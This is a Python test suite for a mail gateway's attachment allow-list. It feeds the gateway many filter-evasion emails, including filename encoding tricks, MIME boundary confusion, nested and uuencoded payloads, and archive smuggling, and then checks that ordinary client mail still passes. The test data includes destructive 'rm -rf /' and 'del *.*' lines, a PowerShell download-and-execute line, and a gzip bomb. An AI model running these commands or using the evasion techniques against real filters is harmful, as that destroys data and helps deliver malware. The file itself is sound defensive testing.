#!/usr/bin/env python3
"""Each way to smuggle a file past an allow-list, through the real daemon: the four-line reply, and no other. Then what
the usual mail programs send, which has to pass. Written from PRODUCT.md 5 and the attack list, not from the code."""

import base64
import gzip
import io
import pathlib
import quopri
import tarfile
import tempfile
import unittest
import zipfile

from gateway import Client, Gateway, OPEN, Sink

ALLOW = ["pdf", "txt", "gif", "jpg", "png", "ics", "p7s", "asc"]
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 44 + b"\x80\0\0\0" + b"\x0e\x1f\xba\x0e" * 300
PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
TOP = "From: Ceo <ceo@acme.test>\r\nTo: b@far.test\r\nSubject: papers\r\nDate: Tue, 24 Nov 2026 15:56:53 +0000\r\nMIME-Version: 1.0\r\n"
LAST = ["550-5.7.1 violates Acme's email security policy.", "550-5.7.1 The delivery has been blocked.",
        "550 5.7.1 For more information, contact your IT Administrator."]


def raw(text):
    return text if isinstance(text, bytes) else text.encode()


def lines64(content):
    return base64.encodebytes(content).replace(b"\n", b"\r\n")


def quoted(content):
    return quopri.encodestring(content.replace(b"\r\n", b"\n"), quotetabs=True).replace(b"\r", b"=0D").replace(b"\n", b"\r\n")


def part(fields, body=b"text\r\n"):
    fields = raw(fields).rstrip(b"\r\n")
    return (fields + b"\r\n" if fields else b"") + b"\r\n" + raw(body)


def file(fields, content=b"hello\n", kind="application/octet-stream"):
    """A part in base64; `fields` come behind its Content-Type's first word."""
    return part(b"Content-Type: " + raw(kind) + raw(fields) + b"\r\nContent-Transfer-Encoding: base64", lines64(content))


def multipart(*parts, boundary="=_b", kind="mixed", top=TOP, end=True):
    text = raw(top) + raw(f'Content-Type: multipart/{kind};\r\n boundary="{boundary}"\r\n\r\n')
    for one in parts:
        text += raw(f"--{boundary}\r\n") + one + b"\r\n"
    return text + (raw(f"--{boundary}--\r\n") if end else b"")


def with_file(fields, content=b"hello\n", **options):
    return multipart(part("Content-Type: text/plain"), file(fields, content, **options))


def disposition(parameters, content=b"hello\n", **options):
    return with_file(b"\r\nContent-Disposition: attachment; " + raw(parameters), content, **options)


def zipped(*names, content=b"hello\n"):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return made.getvalue()


def tarred(*names, mode="w"):
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode=mode) as archive:
        for name in names:
            entry = tarfile.TarInfo(name)
            entry.size = 5
            archive.addfile(entry, io.BytesIO(b"hello"))
    return made.getvalue()


def encrypted(archive):
    """The flag in the local header and in the directory."""
    changed = bytearray(archive)
    changed[6] |= 1
    changed[archive.index(b"PK\x01\x02") + 8] |= 1
    return bytes(changed)


def uuencoded(name, content=PROGRAM[:45]):
    import binascii
    return raw(f"begin 644 {name}\r\n") + binascii.b2a_uu(content).replace(b"\n", b"\r\n") + b"`\r\nend\r\n"


NAMES = {
    "plain": 'filename="a.exe"',
    "upper case": 'FILENAME="A.EXE"',
    "without quotes": "filename=a.exe",
    "no extension": 'filename="invoice"',
    "two extensions": 'filename="a.pdf.exe"',
    "dot at the end": 'filename="a.exe."',
    "dots and blanks at the end": 'filename="a.exe. . ."',
    "many blanks within": 'filename="a.pdf' + " " * 60 + '.exe"',
    "no-break space at the end": 'filename="a.exe\u00a0"',
    "bidi override": 'filename="a\u202efdp.exe"',
    "bidi mark at the end": 'filename="a.exe\u200f"',
    "zero width in the extension": 'filename="a.e\u200bxe"',
    "full-width dot": 'filename="a\uff0eexe"',
    "colon stream": 'filename="a.exe:x.pdf"',
    "data stream": 'filename="a.exe::$DATA"',
    "path": 'filename="a.pdf/b.exe"',
    "windows path": 'filename="c:\\\\x.pdf\\\\b.exe"',
    "percent": 'filename="a%2Eexe"',
    "2231 value": "filename*=utf-8''a%2Eexe",
    "2231 NUL": "filename*=utf-8''a.exe%00.pdf",
    "2231 continuation": 'filename*0="a."; filename*1="ex"; filename*2="e"',
    "2231 continuation in another order": 'filename*1=".exe"; filename*0="a.pdf"',
    "2231 encoded continuation": "filename*0*=utf-8''a.p; filename*1=df; filename*2*=%2Eexe",
    "2231 continuation with a hole": 'filename*0="a.pdf"; filename*2=".exe"',
    "2231 continuation doubled": 'filename*0="a"; filename*1=".pdf"; filename*1=".exe"',
    "2231 leading zero": 'filename*00="a.pdf"; filename*01=".exe"',
    "2231 beside plain": "filename=\"a.pdf\"; filename*=utf-8''a.exe",
    "plain beside 2231": "filename*=utf-8''a.pdf; filename=\"a.exe\"",
    "2231 in utf-7": "filename*=utf-7''a%2BAC4-exe",
    "2231 unknown charset": "filename*=x-none''a.exe",
    "2231 no charset": "filename*=a.exe",
    "2231 no charset, charset-like": "filename*=utf-8'a.exe",
    "2231 two stars": "filename**=utf-8''a.exe",
    "blank before the star": "filename *=utf-8''a.exe",
    "blank before equals": 'filename = "a.exe"',
    "colon for equals": 'filename: "a.exe"',
    "quoted parameter name": '"filename"="a.exe"',
    "2047 B": 'filename="=?utf-8?B?YS5leGU=?="',
    "2047 Q": 'filename="=?iso-8859-1?Q?a=2Eexe?="',
    "2047 without quotes": "filename==?utf-8?Q?a=2Eexe?=",
    "2047 in two words": 'filename="=?utf-8?Q?a.pdf?= =?utf-8?Q?.exe?="',
    "2047 behind text": 'filename="a.pdf=?utf-8?Q?=2Eexe?="',
    "2047 in utf-16": 'filename="=?utf-16be?B?AGEALgBlAHgAZQ==?="',
    "2047 unended": 'filename="=?utf-8?Q?a.exe"',
    "raw UTF-8": 'filename="rechnung-\u00fc.exe"',
    "raw latin-1": b'filename="rechnung-\xfc.exe"',
    "two filenames": 'filename="a.pdf"; filename="a.exe"',
    "two filenames, first bad": 'filename="a.exe"; filename="a.pdf"',
    "two filenames, both good": 'filename="a.pdf"; filename="b.pdf"',
    "text behind the quote": 'filename="a.pdf".exe',
    "quote that does not end": 'filename="a.exe',
    "backslash": 'filename="a.ex\\e"',
    "comment in the value": "filename=a.pdf(.exe)",
    "comment before": 'filename=(a.pdf)"a.exe"',
    "folded in quotes": 'filename="a.pdf\r\n .exe"',
    "folded within the word": "filename=a.pdf\r\n .exe",
    "no semicolon": 'filename="a.pdf" filename="a.exe"',
    "single quotes": "filename='a.exe'",
    "tab for blank": 'filename=\t"a.exe"',
    "long": 'filename="' + "a" * 300 + '.pdf"',
    "name in the disposition": 'name="a.exe"',
    "a hundred parameters first": "; ".join(f"x{n}=1" for n in range(120)) + '; filename="a.exe"',
    "empty": 'filename=""',
    "a dot": 'filename="."',
}

NO_NAME = ("empty", "a dot")
PDF_PART = '; name="a.pdf"\r\nContent-Disposition: attachment; filename="a.pdf"'


def attacks():
    for what, parameters in NAMES.items():
        yield "name: " + what, disposition(parameters)
        if what not in NO_NAME:  # A reader that finds none of them has a nameless PDF, which is allowed.
            yield f"name of a pdf: {what}", disposition(parameters, PDF, kind="application/pdf")
            yield f"name of the type: {what}", with_file(b"; " + raw(parameters).replace(b"filename", b"name").replace(b"FILE", b""), PDF, kind="application/pdf")
    yield "name of the type", with_file('; name="a.exe"')
    yield "name of the type, another of the disposition", with_file('; name="a.exe"\r\nContent-Disposition: attachment; filename="a.pdf"')
    yield "inline", with_file('\r\nContent-Disposition: inline; filename="a.exe"')
    yield "nameless octet-stream", with_file("")
    yield "nameless unknown message type", with_file("", PROGRAM, kind="message/x-unknown")
    yield "nameless program", with_file("", PROGRAM, kind="application/x-msdownload")
    yield "pdf by name, program by type", with_file('; name="a.pdf"', kind="application/x-msdownload")
    yield "picture type, program by name", with_file('; name="a.exe"', kind="image/png")
    yield "folded type", with_file('\r\n\t;\r\n\tname\r\n =\r\n "a.exe"')
    yield "comments in the type", with_file(' (x) ; (y) name (z) = (q) "a.exe" (end)', kind="(c)application(c)/(c)octet-stream")
    yield "type in odd case", with_file('; NaMe="A.eXe"', kind="APPlication/OCTET-stream")
    yield "Content-Name", with_file("\r\nContent-Name: a.exe", kind="application/pdf")
    for name in ("Content-Disposition ", "content-DISPOSITION"):
        yield f"field {name!r}", multipart(part(f"Content-Type: application/pdf\r\n{name}: attachment; filename=a.exe"))
    for field in ("Content-Type: application/octet-stream; name=a.exe", "Content-Disposition: attachment; filename=a.exe"):
        kind = field.split(":")[0]
        good = "application/pdf; name=a.pdf" if kind == "Content-Type" else "attachment; filename=a.pdf"
        yield f"doubled {kind}", multipart(part(f"{kind}: {good}\r\n{field}"))
        yield f"doubled {kind}, the other way", multipart(part(f"{field}\r\n{kind}: {good}"))
    yield "type without a slash", multipart(part("Content-Type: pdf; name=a.pdf"))
    yield "the message itself", raw(TOP) + file('; name="a.exe"')
    yield "a field behind a line that is none", multipart(part("Content-Type: text/plain\r\nno field\r\nContent-Disposition: attachment; filename=a.exe"))
    yield "a blank line that is none", multipart(part("Content-Type: application/pdf\r\n \r\nContent-Disposition: attachment; filename=a.exe"))

    for what, content in {
        "program": PROGRAM, "elf": b"\x7fELF\x02\x01\x01" + b"\0" * 200, "mach-o": b"\xcf\xfa\xed\xfe" + b"\0" * 200, "java": b"\xca\xfe\xba\xbe\0\0\0\x34",
        "shell": b"#!/bin/sh\nrm -rf /\n", "env": b"#! /usr/bin/env python3\nprint()\n", "batch": b"@echo off\r\ndel *.*\r\n",
        "powershell": b"$ErrorActionPreference='x'\r\niex (New-Object Net.WebClient).DownloadString('http://x')\r\n",
        "vbs": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "hta": b"<html><HTA:APPLICATION id=x></html>",
        "utf-16 script": "\ufeffSet s = CreateObject(\"WScript.Shell\")".encode("utf-16-le"), "shortcut": b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F",
        "url": b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n", "zip": zipped("a.exe"), "gzip": gzip.compress(b"x"), "tar": tarred("a.exe"), "rar": b"Rar!\x1a\x07\0",
        "7z": b"7z\xbc\xaf\x27\x1c\0\4", "cab": b"MSCF\0\0\0\0", "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "chm": b"ITSF\3\0\0\0",
        "tnef": b"\x78\x9f\x3e\x22\x01\0\x01\x90",
    }.items():
        yield f"{what} called pdf", with_file(PDF_PART, content, kind="application/pdf")
    yield "pdf with a zip at its end", with_file(PDF_PART, PDF * 300 + zipped("a.exe"))
    yield "gif with a zip at its end", with_file('; name="a.gif"', b"GIF89a" + b"\0" * 20000 + zipped("a.exe") + b"more")
    yield "jpg that is a program", with_file('; name="a.jpg"', PROGRAM, kind="image/jpeg")
    yield "nameless pdf that is a program", with_file("", PROGRAM, kind="application/pdf")
    yield "program in quoted-printable", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: quoted-printable',
                                                        quoted(PROGRAM)))
    yield "base64 with junk before", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64', b"!!!\r\n" + lines64(PROGRAM)))
    yield "base64 with padding within", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: base64',
                                                       lines64(PDF[:1]) + lines64(PROGRAM)))
    for encoding in ("x-base64", "base-64", "base64, 7bit", "base64; x", "gzip64", "\"base64\"", "base64 x"):
        yield f"encoding {encoding}", multipart(part(f'Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: {encoding}', lines64(PROGRAM)))
    yield "encoding BASE64 with comments", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: (x) BASE64 (y)', lines64(PROGRAM)))
    yield "two encodings", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64', lines64(PROGRAM)))

    bad = multipart(file('; name="a.exe"'), boundary="=_in")
    yield "nested message", multipart(part("Content-Type: message/rfc822", bad))
    yield "nested message called eml", multipart(part("Content-Type: message/rfc822; name=x.eml", bad))
    yield "nested message in base64", multipart(part("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64", lines64(bad)))
    yield "nested message in quoted-printable", multipart(part("Content-Type: message/rfc822\r\nContent-Transfer-Encoding: quoted-printable", quoted(bad)))
    deep = bad
    for _ in range(5):
        deep = raw(TOP) + b"Content-Type: message/rfc822\r\n\r\n" + deep
    yield "message five deep", deep
    for _ in range(30):
        deep = raw(TOP) + b"Content-Type: message/rfc822\r\n\r\n" + deep
    yield "message 35 deep", deep
    yield "message/global", multipart(part("Content-Type: message/global", bad))
    yield "message/news", multipart(part("Content-Type: message/news", bad))
    yield "digest", multipart(part("", bad), kind="digest")
    yield "message/partial", raw(TOP) + part('Content-Type: message/partial; id="x"; number=1; total=2', "x\r\n")
    yield "message/external-body", multipart(part('Content-Type: message/external-body; access-type=URL; URL="http://x/a.exe"', "Content-Type: application/pdf\r\n\r\n"))
    yield "eml by name only", disposition("filename=a.eml", bad)
    yield "nested multipart", multipart(part("Content-Type: multipart/mixed; boundary=in\r\n", b"--in\r\n" + file("; name=a.exe") + b"\r\n--in--\r\n"))
    yield "unknown multipart", multipart(file('; name="a.exe"'), kind="x-unknown")
    yield "multipart in base64", raw(TOP) + b'Content-Type: multipart/mixed; boundary="in"\r\nContent-Transfer-Encoding: base64\r\n\r\n' + lines64(b"--in\r\n" + file("; name=a.exe") + b"\r\n--in--\r\n")

    yield "uuencode in a text", raw(TOP) + b"\r\nsee\r\n\r\n" + uuencoded("a.exe")
    yield "uuencode in a base64 text", raw(TOP) + b"Content-Transfer-Encoding: base64\r\n\r\n" + lines64(b"see\r\n" + uuencoded("a.exe"))
    yield "uuencode in html", raw(TOP) + part("Content-Type: text/html", uuencoded("a.exe"))
    yield "uuencode base64", raw(TOP) + b"\r\nbegin-base64 644 a.exe\r\n" + lines64(PROGRAM) + b"====\r\n"
    yield "uuencode in the preamble", multipart(part("Content-Type: text/plain")).replace(b"\r\n\r\n--=_b", b"\r\n\r\n" + uuencoded("a.exe") + b"--=_b", 1)
    yield "uuencode in the epilogue", multipart(part("Content-Type: text/plain")) + uuencoded("a.exe")
    yield "uuencode as the encoding", multipart(part("Content-Type: text/plain\r\nContent-Transfer-Encoding: x-uuencode", uuencoded("a.exe")))
    yield "uuencode as the encoding of a pdf", multipart(part('Content-Type: application/pdf; name="a.pdf"\r\nContent-Transfer-Encoding: x-uuencode', uuencoded("a.exe")))
    yield "yEnc", raw(TOP) + b"\r\n=ybegin line=128 size=5 name=a.exe\r\n\x92\x8f\x96\r\n=yend size=5\r\n"
    yield "tnef by type", multipart(file("; name=a.pdf", b"\x78\x9f\x3e\x22\x01\0", kind="application/ms-tnef"))
    yield "tnef by name", multipart(file("; name=winmail.dat", b"\x78\x9f\x3e\x22\x01\0"))

    evil = b"--two\r\n" + file("; name=a.exe") + b"\r\n--two--\r\n"
    good = b"--one\r\n" + part("Content-Type: text/plain") + b"\r\n--one--\r\n"
    for what, boundaries in {"two boundaries": "boundary=one; boundary=two", "two boundaries, plain and 2231": "boundary=one; boundary*=us-ascii''two",
                             "two boundaries, 2231 sections": 'boundary=one; boundary*0=t; boundary*1=wo', "boundary and comment": "boundary=one(two)",
                             "boundary and text": 'boundary="one"two', "boundary escaped": 'boundary="o\\ne"; boundary="two"'}.items():
        yield what, raw(TOP) + raw(f"Content-Type: multipart/mixed; {boundaries}\r\n\r\n") + good + evil
    yield "blank at the end of the boundary", raw(TOP) + b'Content-Type: multipart/mixed; boundary="two "\r\n\r\n' + evil + good.replace(b"one", b"two ")
    yield "blank at the start of the boundary", raw(TOP) + b'Content-Type: multipart/mixed; boundary=" two"\r\n\r\n' + evil + good.replace(b"one", b" two")
    yield "boundary folded", raw(TOP) + b'Content-Type: multipart/mixed; boundary="tw\r\n o"\r\n\r\n' + evil.replace(b"two", b"tw o")
    yield "blanks behind the boundary lines", raw(TOP) + b'Content-Type: multipart/mixed; boundary=two\r\n\r\n' + evil.replace(b"two\r\n", b"two \t \r\n")
    yield "text behind the boundary line", raw(TOP) + b'Content-Type: multipart/mixed; boundary=two\r\n\r\n--two\r\n\r\ntext\r\n' + evil.replace(b"two\r\n", b"two x\r\n")
    yield "no closing boundary", multipart(file('; name="a.exe"'), end=False)
    yield "behind the closing boundary", raw(TOP) + b"Content-Type: multipart/mixed; boundary=two\r\n\r\n" + good.replace(b"one", b"two") + evil
    yield "boundary in the header", raw(TOP) + b"Content-Type: multipart/mixed; boundary=two\r\n\r\n--two\r\nContent-Type: text/plain\r\n" + evil
    yield "inner boundary begins with the outer", raw(TOP) + b"Content-Type: multipart/mixed; boundary=tw\r\n\r\n--tw\r\nContent-Type: multipart/mixed; boundary=two\r\n\r\n" + evil + b"--tw--\r\n"
    yield "multipart without a boundary", raw(TOP) + b"Content-Type: multipart/mixed\r\n\r\n" + evil
    yield "a thousand parts first", multipart(*[part("Content-Type: text/plain", "x")] * 1100, file("; name=a.exe"))
    yield "a long header first", multipart(part("X: " + "\r\n ".join(["y" * 900] * 90) + "\r\nContent-Disposition: attachment; filename=a.exe"))
    yield "without MIME-Version", multipart(file("; name=a.exe"), top=TOP.replace("MIME-Version: 1.0\r\n", ""))


def archive_attacks():
    """Where zip, tar and gz are allowed, their members are judged."""
    for extension in ("exe", "js", "pdf.exe", "exe.", "exe ", "EXE", "lnk"):
        yield f"zip with {extension!r}", disposition("filename=a.zip", zipped("b.txt", "c/a." + extension))
    yield "zip in zip", disposition("filename=a.zip", zipped("b.zip", content=zipped("a.exe")))
    yield "tgz in zip", disposition("filename=a.zip", zipped("b.tgz"))
    yield "encrypted zip", disposition("filename=a.zip", encrypted(zipped("a.txt")))
    yield "zip with another local name", disposition("filename=a.zip", zipped("a.txt").replace(b"a.txt", b"a.exe", 1))
    yield "zip with another name in the directory", disposition("filename=a.zip", zipped("a.exe").replace(b"a.exe", b"a.txt", 1))
    yield "program before a zip", disposition("filename=a.zip", PROGRAM + zipped("a.txt"))
    yield "two zips, one behind the other", disposition("filename=a.zip", zipped("a.exe") + zipped("a.txt"))
    yield "cut zip", disposition("filename=a.zip", zipped("a.txt")[:-30])
    yield "zip that is none", disposition("filename=a.zip", b"hello")
    yield "tar", disposition("filename=a.tar", tarred("b.txt", "a.exe"))
    yield "tgz", disposition("filename=a.tgz", tarred("b.txt", "a.exe", mode="w:gz"))
    yield "tar.gz", disposition("filename=a.tar.gz", tarred("b.txt", "a.exe", mode="w:gz"))
    yield "long name in tar", disposition("filename=a.tar", tarred("d" * 90 + "/" + "e" * 90 + "/a.exe"))
    yield "gz of a program", disposition("filename=a.txt.gz", gzip.compress(PROGRAM))
    yield "gz called a.exe.gz", disposition("filename=a.exe.gz", gzip.compress(b"x"))
    yield "bomb in gz", disposition("filename=a.tar.gz", gzip.compress(tarred("b.txt")[:512].replace(b"00000000005", b"37777777777") + b"\0" * 50_000_000))
    yield "bz2 called gz", disposition("filename=a.gz", b"BZh91AY&SY" + b"\0" * 50)


SIGNED = multipart(part("Content-Type: text/plain; charset=utf-8; format=flowed"),
                   file("; name=smime.p7s\r\nContent-Disposition: attachment; filename=smime.p7s\r\nContent-Description: S/MIME Cryptographic Signature",
                        b"\x30\x80\x06\x09\x2a\x86" * 100, kind="application/pkcs7-signature"), kind='signed; protocol="application/pkcs7-signature"; micalg=sha-256', boundary="----ABCD")
DSN = multipart(part("Content-Type: text/plain; charset=us-ascii\r\nContent-Description: Notification"),
                part("Content-Description: Delivery report\r\nContent-Type: message/delivery-status", "Reporting-MTA: dns; a.test\r\n\r\nFinal-Recipient: rfc822; b@far.test\r\nAction: failed\r\nStatus: 5.1.1\r\n"),
                part("Content-Description: Undelivered Message\r\nContent-Type: message/rfc822", raw(TOP) + b"Content-Type: text/plain\r\n\r\nx\r\n"), kind="report; report-type=delivery-status", boundary="AAA.1234/a.test")
HTML = part("Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable", "<p>Gr=C3=BC=C3=9Fe <img src=3D\"cid:1@x\"></p>\r\n")
PLAIN = part("Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\r\nContent-Transfer-Encoding: 8bit", "Gr\u00fc\u00dfe \r\n-- \r\nme\r\n")
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 500
EVENT = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"


def inner(text):
    """A multipart as a part: without the message's own fields."""
    return text[len(TOP):]


ALTERNATIVE = inner(multipart(PLAIN, HTML, kind="alternative", boundary="=_alt"))
ORDINARY = {
    "plain text without MIME": b"From: ceo@acme.test\r\nSubject: x\r\n\r\nbegin with this, then 644 things\r\n-- \r\nme\r\n",
    "no body": raw(TOP) + b"\r\n",
    "thunderbird": multipart(part("Content-Type: text/plain; charset=UTF-8; format=flowed\r\nContent-Transfer-Encoding: 7bit"),
                             file("; name=\"Rechnung =?UTF-8?B?w7w=?=.pdf\"\r\nContent-Disposition: attachment; filename*0*=UTF-8''Rechnung%20%C3%BC; filename*1*=.pdf", PDF,
                                  kind="application/pdf"), boundary="------------0dXz7vJkQ2"),
    "outlook": multipart(part("Content-Type: multipart/related;\r\n\tboundary=\"_004_x_\";\r\n\ttype=\"multipart/alternative\"\r\n",
                              b"--_004_x_\r\n" + ALTERNATIVE + b"\r\n--_004_x_\r\n" +
                              file("; name=\"image001.png\"\r\nContent-Description: image001.png\r\nContent-Disposition: inline; filename=\"image001.png\"; size=512;\r\n\tcreation-date=\"Tue, 24 Nov 2026 15:56:53 GMT\"\r\nContent-ID: <image001.png@01DA>",
                                   PNG, kind="image/png") + b"\r\n--_004_x_--\r\n"),
                         file("; name=\"Angebot.pdf\"\r\nContent-Description: Angebot.pdf\r\nContent-Disposition: attachment; filename=\"Angebot.pdf\"; size=49", PDF, kind="application/pdf"),
                         boundary="_005_AM0PR0_"),
    "apple mail": multipart(part("Content-Transfer-Encoding: quoted-printable\r\nContent-Type: text/plain;\r\n\tcharset=utf-8", "Hi=E2=80=A6\r\n"),
                            part("Content-Type: multipart/mixed;\r\n\tboundary=\"Apple-Mail=_2\"\r\n", b"--Apple-Mail=_2\r\n" + HTML + b"\r\n--Apple-Mail=_2\r\n" +
                                 file(';\r\n\tx-unix-mode=0644;\r\n\tname="Report.pdf"\r\nContent-Disposition: inline;\r\n\tfilename=Report.pdf', PDF, kind="application/pdf") +
                                 b"\r\n--Apple-Mail=_2--\r\n"), kind="alternative", boundary="Apple-Mail=_1"),
    "gmail": multipart(ALTERNATIVE, file("; name=\"photo.jpg\"\r\nContent-Disposition: attachment; filename=\"photo.jpg\"\r\nX-Attachment-Id: f_lk\r\nContent-ID: <f_lk>", b"\xff\xd8\xff\xe0" + b"\0" * 400, kind="image/jpeg"),
                       boundary="000000000000a1b2c3"),
    "calendar": multipart(PLAIN, HTML, part("Content-Type: text/calendar; charset=\"utf-8\"; method=REQUEST\r\nContent-Transfer-Encoding: base64", lines64(EVENT.encode())), kind="alternative"),
    "calendar with a file": multipart(PLAIN, file("; name=\"invite.ics\"\r\nContent-Disposition: attachment; filename=\"invite.ics\"", EVENT.encode(), kind="application/ics")),
    "s/mime signed": SIGNED,
    "pgp signed": multipart(PLAIN, part("Content-Type: application/pgp-signature; name=\"OpenPGP_signature.asc\"\r\nContent-Description: OpenPGP digital signature\r\nContent-Disposition: attachment; filename=\"OpenPGP_signature.asc\"",
                                        "-----BEGIN PGP SIGNATURE-----\r\n\r\nwsB5\r\n-----END PGP SIGNATURE-----\r\n"), kind='signed; micalg=pgp-sha256; protocol="application/pgp-signature"'),
    "pgp encrypted": multipart(part("Content-Type: application/pgp-encrypted\r\nContent-Description: PGP/MIME version identification", "Version: 1\r\n"),
                               part("Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\nContent-Disposition: inline; filename=\"encrypted.asc\"",
                                    "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n-----END PGP MESSAGE-----\r\n"), kind='encrypted; protocol="application/pgp-encrypted"'),
    "bounce": DSN,
    "bounce with the header only": DSN.replace(b"message/rfc822", b"text/rfc822-headers"),
    "read receipt": multipart(PLAIN, part("Content-Type: message/disposition-notification", "Final-Recipient: rfc822;a@b.test\r\nDisposition: manual-action/MDN-sent-manually; displayed\r\n"), kind="report; report-type=disposition-notification"),
    "feedback report": multipart(PLAIN, part("Content-Type: message/feedback-report", "Feedback-Type: abuse\r\nVersion: 1\r\n"), part("Content-Type: message/rfc822", raw(TOP) + b"\r\nx\r\n"), kind="report; report-type=feedback-report"),
    "forwarded": multipart(PLAIN, part("Content-Type: message/rfc822; charset=UTF-8; name=\"Re: offer 12.eml\"\r\nContent-Disposition: attachment; filename=\"Re: offer 12.eml\"", SIGNED)),
    "forwarded without a name": multipart(PLAIN, part("Content-Type: message/rfc822", DSN)),
    "mailing list": multipart(PLAIN, part('Content-Type: text/plain; charset="us-ascii"\r\nMIME-Version: 1.0\r\nContent-Transfer-Encoding: 7bit\r\nContent-Disposition: inline', "____\r\nlist mailing list\r\n")),
    "newsletter": multipart(PLAIN, HTML, kind="alternative", boundary="--==_mimepart_5f3a"),
    "preamble and epilogue": multipart(PLAIN).replace(b"\r\n\r\n--=_b", b"\r\n\r\nThis is a multi-part message in MIME format.\r\n--=_b", 1) + b"\r\n",
    "a text attached": disposition('filename="notes.txt"', b"a note about eval( and scripts\n", kind="text/plain"),
    "odd but usual type": raw(TOP) + b"Content-Type: text/plain; charset=utf-8;\r\n\r\nx\r\n",
    "charset without a value": raw(TOP) + b"Content-Type: text/plain; charset\r\n\r\nx\r\n",
}


class Attacks(unittest.TestCase):
    def start(self, allow):
        self.maildir = pathlib.Path(tempfile.mkdtemp())
        sink = Sink("--maildir", self.maildir)
        self.addCleanup(sink.process.kill)
        self.gate = Gateway(next_hop=sink.port)
        self.addCleanup(self.gate.close)
        self.gate.policy["tenants"] = [{"name": "acme", "company": "Acme", **OPEN, "relay_hosts": ["127.0.0.0/8"], "attachments": {"allow": allow}}]
        self.gate.start()

    def reply(self, text, chunks=0):
        """What answers the end of the message, by DATA or in that many BDATs."""
        client = Client(self.gate.ports["smtp"])
        client.say("EHLO c.test")
        self.assertTrue(client.say("MAIL FROM:<ceo@acme.test> BODY=8BITMIME SMTPUTF8").startswith("250"))
        client.say("RCPT TO:<b@far.test>")
        text = text if text.endswith(b"\r\n") else text + b"\r\n"
        if not chunks:
            client.say("DATA")
            client.send(text.replace(b"\r\n.", b"\r\n..") + b".\r\n")
            answer = client.reply()
        else:
            step = len(text) // chunks + 1
            for at in range(0, len(text), step):
                piece = text[at:at + step]
                client.send(f"BDAT {len(piece)}{' LAST' if at + step >= len(text) else ''}\r\n".encode() + piece)
                answer = client.reply()
                if not answer.startswith("250"):
                    break
        client.socket.close()
        return answer.splitlines()

    def refuses(self, what, text, chunks=0):
        with self.subTest(what=what, chunks=chunks):
            lines = self.reply(text, chunks)
            self.assertEqual(lines[1:], LAST, lines)
            self.assertRegex(lines[0], r'^550-5\.7\.1 The attachment named "[^\x00-\x1f\x7f"\u200b-\u202e]+"$')

    def test_what_is_not_allowed_never_leaves(self):
        self.start(ALLOW)
        for number, (what, text) in enumerate(attacks()):
            self.refuses(what, text)
            if number % 4 == 0:
                self.refuses(what, text, 1 + number % 7)
        self.assertEqual(self.gate.status()["mail"]["received"], 0)

    def test_members_are_judged_where_archives_are_allowed(self):
        self.start([*ALLOW, "zip", "tar", "gz", "tgz"])
        for what, text in archive_attacks():
            self.refuses(what, text)
        for name, content in (("a.zip", zipped("b.txt", "c/d.pdf")), ("a.tar", tarred("b.txt")), ("a.tar.gz", tarred("b.txt", mode="w:gz")),
                              ("a.txt.gz", gzip.compress(b"hello"))):
            self.assertEqual(self.reply(disposition(f"filename={name}", content))[0][:3], "250", name)

    def test_what_mail_programs_send_passes(self):
        self.start(ALLOW)
        for what, text in ORDINARY.items():
            for chunks in 0, 3:
                with self.subTest(what=what, chunks=chunks):
                    self.assertEqual(self.reply(text, chunks)[0][:3], "250", self.reply(text, chunks))


if __name__ == "__main__":
    unittest.main(warnings="ignore")
